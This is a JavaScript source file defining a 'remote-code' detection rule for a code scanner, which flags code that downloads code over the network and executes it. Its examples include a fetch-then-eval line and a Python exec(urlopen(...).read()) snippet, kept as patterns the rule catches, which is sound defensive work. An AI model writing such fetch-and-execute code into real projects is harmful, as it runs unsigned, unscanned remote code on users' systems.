import { defineRule } from './defineRule.js';

export const remoteCode = defineRule({
  id: 'remote-code',
  severity: 'high',
  message: 'It has code come over the network and runs it.',
  why: 'What runs is then not what was signed and scanned.',
  match: {
    on: 'near',
    all: [
      ['dynamic-code', 'builds-functions', 'runs-text', 'loads-objects'],
      ['uses-network', 'bare-address'],
    ],
  },
  examples: {
    flags: [
      "fetch('https://example.com/a.js').then((r) => r.text()).then((text) => eval(text))",
      {
        path: 'main.py',
        runtime: 'python',
        content: 'import urllib.request\nexec(urllib.request.urlopen(url).read())',
      },
    ],
    passes: ["eval('1 + 1')"],
  },
});
